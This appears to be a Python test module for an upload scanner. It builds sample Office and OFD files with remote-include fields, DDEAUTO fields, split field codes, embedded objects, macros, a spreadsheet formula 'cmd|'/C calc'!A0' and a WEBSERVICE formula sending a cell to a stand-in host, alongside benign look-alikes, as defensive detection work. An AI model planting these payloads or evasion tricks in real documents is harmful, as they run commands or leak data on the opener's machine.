"""Office files by what is in them: what fetches, starts or carries something else, and what is ordinary.

Each part that is not said is that of a plain document; `field` writes a field as Word does, in runs.
"""

from portal.files import refusal
from tests.uploads import CLOUD, OLE, sheet, ties, word, zipped

W = f'xmlns:w="{CLOUD}/wordprocessingml/2006/main"'
MICROSOFT = "http://schemas.microsoft.com/office"


def turn(where):
    return f'<w:r><w:fldChar w:fldCharType="{where}"/></w:r>'


def code(*pieces, tag="instrText"):
    return "".join(f"<w:r><w:{tag}>{piece}</w:{tag}></w:r>" for piece in pieces)


def field(*pieces, result="见上", inside=""):
    """A field whose code stands in these runs, with another field in the middle of them."""
    pieces = [*map(code, pieces)]
    pieces.insert(1, inside)
    result = f"<w:r><w:t>{result}</w:t></w:r>"
    return turn("begin") + "".join(pieces) + turn("separate") + result + turn("end")


def p(*runs):
    return f"<w:p>{''.join(runs)}</w:p>"


def simple(instruction):
    return f'<w:fldSimple w:instr="{instruction}"/>'


def of_part(name, *runs):
    """A document with these runs in its header, its notes …"""
    return word({f"word/{name}.xml": f"<w:x {W}>{p(*runs)}</w:x>"})


def tied(*rows, source="document", **more):
    return word({f"word/_rels/{source}.xml.rels": ties(*rows)} | more)


def sheet_tied(*rows, source="workbook", **more):
    return sheet(**{f"xl/_rels/{source}.xml.rels": ties(*rows)} | more)


def of_type(kind, target, mode="Internal"):
    """A relationship of a type that is not one of the standard's own."""
    said = f'<Relationship Id="r1" Type="{kind}" Target="{target}" TargetMode="{mode}"/>'
    return f'<Relationships xmlns="{CLOUD}/package/2006/relationships">{said}</Relationships>'


def inside_sheet(tag, words):
    return sheet(**{"xl/worksheets/sheet2.xml": f"<worksheet><{tag}>{words}</{tag}></worksheet>"})


def ofd(**parts):
    space = 'xmlns:ofd="http://www.ofdspec.org/2016"'
    said = {name.replace("__", "/") + ".xml": f"<ofd:x {space}>{xml}</ofd:x>" for name, xml in parts.items()}
    return zipped({"OFD.xml": f"<ofd:OFD {space}/>"} | said)


INCLUDE = 'INCLUDETEXT "C:\\\\Users\\\\a.docx"'
FAR = 'INCLUDEPICTURE "https://a.test/a.png"'
NEAR = 'INCLUDEPICTURE "C:\\\\Temp\\\\ksohtml\\\\wps1.jpg" \\* MERGEFORMATINET'
DDE = "DDEAUTO excel sheet a1"
LINKED, FIELDS, EMBEDDED, MACROS = refusal.LINKED, refusal.FIELDS, refusal.EMBEDDED, refusal.MACROS
# What is in it: (its ending, the file, why it is refused).
ACTIVE = {
    "text of a file": ("docx", word(body=p(field(INCLUDE))), LINKED),
    "text of a file in runs": ("docx", word(body=p(field("INCL", "UDETE", "XT a.docx"))), LINKED),
    "text of a file, simple": ("docx", word(body=p(simple("INCLUDETEXT a.docx"))), LINKED),
    "text of a file, small letters": ("docx", word(body=p(field(" includetext a.docx"))), LINKED),
    "after a page number": ("docx", word(body=p(field("PAGE"), field(INCLUDE))), LINKED),
    "a field in its middle": ("docx", word(body=p(field("INCLUDE", "TEXT a", inside=field("PAGE")))), LINKED),
    "inside another field": ("docx", word(body=p(field("IF 1=1", inside=field(INCLUDE)))), LINKED),
    "that was deleted": (
        "docx",
        word(body=p(turn("begin"), code(INCLUDE, tag="delInstrText"), turn("end"))),
        LINKED,
    ),
    "field of a quotation": ("docx", word(body=p(field('QUOTE "INCLUDETEXT a"'))), LINKED),
    "picture from the web": ("docx", word(body=p(field(FAR))), LINKED),
    "picture from the web, with a switch": (
        "docx",
        word(body=p(field('INCLUDEPICTURE \\d "http://a.test/"'))),
        LINKED,
    ),
    "picture of a share": ("docx", word(body=p(field('INCLUDEPICTURE "\\\\\\\\a.test\\\\a.png"'))), LINKED),
    "picture of a share, bare": ("docx", word(body=p(field("INCLUDEPICTURE \\d \\\\a.test\\a.png"))), LINKED),
    "picture of a file address": (
        "docx",
        word(body=p(field('INCLUDEPICTURE "file://a.test/a.png"'))),
        LINKED,
    ),
    "picture that a field names": (
        "docx",
        word(body=p(field("INCLUDEPICTURE ", inside=field("DOCPROPERTY a")))),
        LINKED,
    ),
    "link to a sheet": ("docx", word(body=p(field('LINK Excel.Sheet.12 "a.xlsx"'))), LINKED),
    "database": ("docx", word(body=p(field('DATABASE \\d "a.mdb"'))), LINKED),
    "referenced document": ("docx", word(body=p(field('RD "a.docx"'))), LINKED),
    "program": ("docx", word(body=p(field(DDE))), FIELDS),
    "program in runs": ("docx", word(body=p(field("D", "DE", "AUTO x"))), FIELDS),
    "program after a page number": ("docx", word(body=p(field("PAGE"), field(DDE))), FIELDS),
    "program, a field in its middle": (
        "docx",
        word(body=p(field("D", "DEAUTO", inside=field("PAGE")))),
        FIELDS,
    ),
    "in a header": ("docx", of_part("header1", field(INCLUDE)), LINKED),
    "in a footer": ("docx", of_part("footer1", field(DDE)), FIELDS),
    "in a footnote": ("docx", of_part("footnotes", field(FAR)), LINKED),
    "in an endnote": ("docx", of_part("endnotes", simple(INCLUDE.replace('"', "&quot;"))), LINKED),
    "in a comment": ("docx", of_part("comments", field("D", "DE x")), FIELDS),
    "in a building block": ("docx", of_part("glossary/document", field(INCLUDE)), LINKED),
    "template": (
        "docx",
        tied(("attachedTemplate", "https://a.test/a.dotm", "External"), source="settings"),
        LINKED,
    ),
    "object elsewhere": ("docx", tied(("oleObject", "file:///a.xlsx", "External")), EMBEDDED),
    "object": ("docx", tied(("oleObject", "embeddings/oleObject1.bin", "Internal")), EMBEDDED),
    "package": ("docx", tied(("package", "embeddings/a.xlsx", "Internal")), EMBEDDED),
    "object under another name": ("docx", tied(("oleObject", "media/a.png", "Internal")), EMBEDDED),
    "frame": ("docx", tied(("frame", "https://a.test/", "External"), source="webSettings"), EMBEDDED),
    "part of a master document": ("docx", tied(("subDocument", "a.docx", "External")), EMBEDDED),
    "foreign text": ("docx", tied(("aFChunk", "afchunk.mht", "Internal")), EMBEDDED),
    "picture elsewhere": ("docx", tied(("image", "https://a.test/a.png", "External")), LINKED),
    "letters to many": (
        "docx",
        tied(("mailMergeSource", "file:///a.xlsx", "External"), source="settings"),
        LINKED,
    ),
    "letters from a database": (
        "docx",
        word(
            {
                "word/settings.xml": f"<w:settings {W}><w:mailMerge>"
                '<w:connectString w:val="a"/></w:mailMerge></w:settings>'
            }
        ),
        LINKED,
    ),
    "film of the web": ("docx", word(body='<w:p><webVideoPr xmlns="a" embeddedHtml="a"/></w:p>'), LINKED),
    "program of the web": (
        "docx",
        word({"_rels/more.rels": of_type(f"{MICROSOFT}/2011/relationships/webextensiontaskpanes", "a")}),
        LINKED,
    ),
    "control": ("docx", tied(("control", "activeX/activeX1.xml", "Internal")), MACROS),
    "control by its part": ("docx", word({"word/activeX/activeX1.xml": "<a/>"}), MACROS),
    "macros by Microsoft's word": (
        "docx",
        word({"word/_rels/document.xml.rels": of_type(f"{MICROSOFT}/2006/relationships/vbaProject", "a")}),
        MACROS,
    ),
    "in a sheet: program": ("xlsx", sheet("cmd|'/C calc'!A0"), FIELDS),
    "program of a name": ("xlsx", inside_sheet("definedName", "cmd|'/C calc'!A0"), FIELDS),
    "program of a check": ("xlsx", inside_sheet("formula1", "cmd|'/C calc'!A0"), FIELDS),
    "program of a mark": ("xlsx", inside_sheet("formula", "cmd|'/C calc'!A0"), FIELDS),
    "web service": ("xlsx", sheet('_xlfn.WEBSERVICE("https://a.test/"&amp;A1)'), LINKED),
    "web service of a name": (
        "xlsx",
        inside_sheet("definedName", '_xlfn.WEBSERVICE("https://a.test/")'),
        LINKED,
    ),
    "picture of a formula": ("xlsx", sheet('_xlfn.IMAGE("https://a.test/a.png")'), LINKED),
    "figures of a server": ("xlsx", sheet('RTD("a.b","a.test","c")'), LINKED),
    "other workbook": (
        "xlsx",
        sheet_tied(("externalLinkPath", "file:///a.xlsx", "External"), source="externalLinks/_rels/e1"),
        LINKED,
    ),
    "other program's data": ("xlsx", sheet(**{"xl/externalLinks/e.xml": "<ddeLink/>"}), FIELDS),
    "other program's object": ("xlsx", sheet(**{"xl/externalLinks/e.xml": "<oleLink/>"}), LINKED),
    "connection": ("xlsx", sheet_tied(("connections", "connections.xml", "Internal")), LINKED),
    "query": ("xlsx", sheet_tied(("queryTable", "../queryTables/queryTable1.xml", "Internal")), LINKED),
    "query of its own kind": (
        "xlsx",
        sheet(**{"customXml/item1.xml": '<DataMashup xmlns="a">UEsDBA==</DataMashup>'}),
        LINKED,
    ),
    "object in a sheet": ("xlsx", sheet_tied(("oleObject", "../embeddings/a.bin", "Internal")), EMBEDDED),
    "object of an old document": ("doc", OLE + "\x03ObjInfo".encode("utf-16-le"), EMBEDDED),
    "object of an old sheet": ("xls", OLE + "MBD0012A3f4".encode("utf-16-le"), EMBEDDED),
    "macro in other letters": ("doc", OLE + "_vba_Project".encode("utf-16-le"), MACROS),
    "macro sheet of 1995": ("xls", OLE + b"\x09\x08\x08\0\0\x05\x40\0", MACROS),
    "old field of a file": ("doc", OLE + b'\x13 INCLUDETEXT "C:\\\\a.doc"', LINKED),
    "old field, in wide letters": ("doc", OLE + "\x13 DDEAUTO excel".encode("utf-16-le"), FIELDS),
    "file in an OFD": (
        "ofd",
        ofd(Doc_0__Attachs__Attachments='<ofd:Attachment ID="1" Name="a"/>'),
        refusal.ATTACHED,
    ),
    "way to it": (
        "ofd",
        ofd(Doc_0__Document='<ofd:Action Event="CLICK"><ofd:GotoA AttachID="1"/></ofd:Action>'),
        refusal.ATTACHED,
    ),
    "sound in an OFD": (
        "ofd",
        ofd(Doc_0__Document='<ofd:Action Event="DO"><ofd:Sound ResourceID="1"/></ofd:Action>'),
        refusal.MEDIA,
    ),
    "film in an OFD": (
        "ofd",
        ofd(Doc_0__Document='<ofd:Action Event="PO"><ofd:Movie ResourceID="1"/></ofd:Action>'),
        refusal.MEDIA,
    ),
}
FRACTION = '<m:oMath xmlns:m="m"><m:f><m:num><m:t>|x|</m:t></m:num></m:f></m:oMath>'
ORDINARY = {
    "link": ("docx", tied(("hyperlink", "https://a.test/DDE", "External"))),
    "link to a share": ("docx", tied(("hyperlink", "file:///\\\\a\\b", "External"))),
    "field of a link": ("docx", word(body=p(field('HYPERLINK "https://a.test/link"')))),
    "contents": ("docx", word(body=p(field('TOC \\o "1-3" \\h \\z \\u'), field("PAGEREF _Toc1 \\h")))),
    "page numbers": ("docx", of_part("footer1", field("PAGE"), field("NUMPAGES"), simple("PAGE"))),
    "number of a table": ("docx", word(body=p(field("SEQ 表 \\* ARABIC"), field("REF _Ref1 \\h")))),
    "sources": ("docx", word(body=p(field("ADDIN CNKISM.Ref.{A}"), field("ADDIN ZOTERO_ITEM")))),
    "day": ("docx", word(body=p(field('DATE \\@ "yyyy年M月d日"')))),
    "field without an end": ("docx", word(body=p(turn("begin"), code("PAGE")))),
    "end without a field": ("docx", word(body=p(turn("end"), turn("end"), field("PAGE")))),
    "pasted picture": ("docx", word({"word/media/image1.png": b"\x89PNG"}, body=p(field(NEAR)))),
    "picture inside": ("docx", tied(("image", "media/image1.png", "Internal"))),
    "fraction": ("docx", word(body=p(FRACTION))),
    "notes": (
        "docx",
        tied(("footnotes", "footnotes.xml", "Internal"), **{"word/footnotes.xml": f"<w:footnotes {W}/>"}),
    ),
    "properties of a form of the office": (
        "docx",
        word({"customXml/item1.xml": "<Attachment>a</Attachment>"}),
    ),
    "by LibreOffice": ("docx", word({"docProps/app.xml": "<Application>LibreOffice/24.2</Application>"})),
    "by WPS": (
        "docx",
        word({"docProps/custom.xml": "<property name='KSOProductBuildVer'>2052-12.1</property>"}),
    ),
    "sum": ("xlsx", sheet("SUM(A1:A2)*IMAGINARY(A3)")),
    "link of a formula": ("xlsx", sheet('HYPERLINK("https://a.test/?WEBSERVICE(|","a|b")')),
    "picture of WPS": ("xlsx", sheet('_xlfn.DISPIMG("ID_0A",1)', **{"xl/cellimages.xml": "<a/>"})),
    "list to choose from": ("xlsx", inside_sheet("formula1", '"是|否,未定"')),
    "name": ("xlsx", inside_sheet("definedName", "Sheet1!$A$1:$B$9")),
    "drawing": ("xlsx", sheet_tied(("drawing", "../drawings/drawing1.xml", "Internal"))),
    "old document": ("doc", OLE + "ObjectPool".encode("utf-16-le") + "社情民意DDE".encode("utf-16-le")),
    "old link": ("doc", OLE + b'\x13 HYPERLINK "https://a.test"'),
    "sealed OFD": ("ofd", ofd(OFD="<ofd:DocBody/>", Doc_0__Signs__Signatures='<ofd:Signature ID="1"/>')),
    "OFD with a link": (
        "ofd",
        ofd(
            Doc_0__Document='<ofd:Action Event="CLICK"><ofd:URI URI="https://a.test"/>'
            "</ofd:Action><ofd:Attachments>Attachs/Attachments.xml</ofd:Attachments>"
        ),
    ),
}
